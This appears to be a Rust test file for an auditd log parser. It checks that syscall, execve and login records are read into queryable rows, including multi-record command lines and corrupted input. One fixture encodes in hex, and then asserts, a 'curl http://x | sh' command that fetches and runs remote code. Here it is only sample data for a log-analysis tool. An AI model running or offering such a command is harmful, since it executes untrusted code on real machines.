//! Files of auditd.

use sources::local::{RawFile, from_files};

use crate::data::{answer, log, rows};

const AUDIT: &str = "\
node=web01 type=SYSCALL msg=audit(1767600000.123:42): arch=c000003e syscall=59 success=yes exit=0 ppid=900 pid=901 auid=1001 uid=0 ses=3 comm=\"bash\" exe=\"/usr/bin/bash\" key=(null)
node=web01 type=EXECVE msg=audit(1767600000.123:42): argc=3 a0=\"bash\" a1=\"-c\" a2=6375726C20687474703A2F2F78207C207368
node=web01 type=USER_LOGIN msg=audit(1767600001.000:43): pid=7 uid=0 auid=1001 ses=3 msg='op=login acct=\"megan\" exe=\"/usr/sbin/sshd\" addr=203.0.113.9 res=failed'
what is this
";

#[test]
fn records_of_auditd() {
    let workspace = log("audit.log.1", AUDIT, "", None);
    assert_eq!(rows(&workspace), [("LinuxAuditLog", 3)]);
    let query = "LinuxAuditLog | where EventType == 'SYSCALL_EXECVE' | project tostring(TimeGenerated), Computer, AuditID, exe, cmdline, pid, ppid, auid, ses";
    assert_eq!(
        answer(&workspace, query),
        [
            "2026-01-05T08:00:00.1230000Z web01 1767600000.123:42 /usr/bin/bash bash -c curl http://x | sh 901 900 1001 3"
        ]
    );
    assert_eq!(
        answer(&workspace, "LinuxAuditLog | where RecordType == 'USER_LOGIN' | project acct, addr, res"),
        ["megan 203.0.113.9 failed"]
    );
    let said = workspace.files[0].to_string();
    assert!(
        said.contains(
            "(as records of auditd); 1 line is no record of auditd and left out, the first is line 4"
        ),
        "{said}"
    );
    for at in 0..AUDIT.len() {
        let mut bytes = AUDIT.as_bytes().to_vec();
        bytes[at] ^= 0x95;
        for bytes in [bytes, AUDIT.as_bytes()[..at].to_vec()] {
            // A sentence or rows, never a panic.
            let _ = from_files(vec![RawFile { name: "audit.log".to_owned(), bytes, modified: None }]);
        }
    }
}

#[test]
fn a_name_with_an_apostrophe_costs_no_field() {
    let text = "type=USER_AUTH msg=audit(1767600001.000:43): pid=7 msg='op=login acct=\"root'x\" exe=\"/usr/sbin/sshd\" addr=203.0.113.9 res=failed'\n";
    let workspace = log("audit.log", text, "", None);
    let query = "LinuxAuditLog | project acct, exe, addr, res";
    assert_eq!(answer(&workspace, query), ["root'x /usr/sbin/sshd 203.0.113.9 failed"]);
}

/// Two processes whose arguments take several records, which the log has interleaved.
const LONG: &str = "\
type=SYSCALL msg=audit(1767600000.123:42): syscall=59 pid=901 exe=\"/usr/bin/python3\"
type=EXECVE msg=audit(1767600000.123:42): argc=3 a0=\"python3\" a1=\"-c\" a2_len=9000 a2[0]=\"AAA\"
type=SYSCALL msg=audit(1767600000.123:43): syscall=59 pid=902 exe=\"/usr/bin/echo\"
type=EXECVE msg=audit(1767600000.123:43): argc=3 a0=\"echo\" a1_len=8 a1[0]=61C3
type=EXECVE msg=audit(1767600000.123:42): a2[1]=\"BBB\"
type=EXECVE msg=audit(1767600000.123:43): a1[1]=A420 a2=\"end\"
";

#[test]
fn a_long_command_line_is_read_from_all_its_records() {
    let lines = |text: &str| {
        let workspace = log("audit.log", text, "", None);
        let query = "LinuxAuditLog | where isnotempty(cmdline) | sort by AuditID asc | project cmdline";
        (answer(&workspace, query), workspace.files[0].to_string())
    };
    let (found, said) = lines(LONG);
    assert_eq!(found, ["python3 -c AAABBB", "echo a\u{e4}  end"]);
    assert!(!said.contains("arguments"), "{said}");
    // The rest of it may be in the file that came next.
    let (cut, _) = LONG.split_at(LONG.rfind("type=").unwrap_or_default());
    let (found, said) = lines(cut);
    assert_eq!(found, ["python3 -c AAABBB", "echo a\u{fffd}"]);
    assert!(said.contains("1 command line lacks arguments, whose records are not in this file"), "{said}");
}
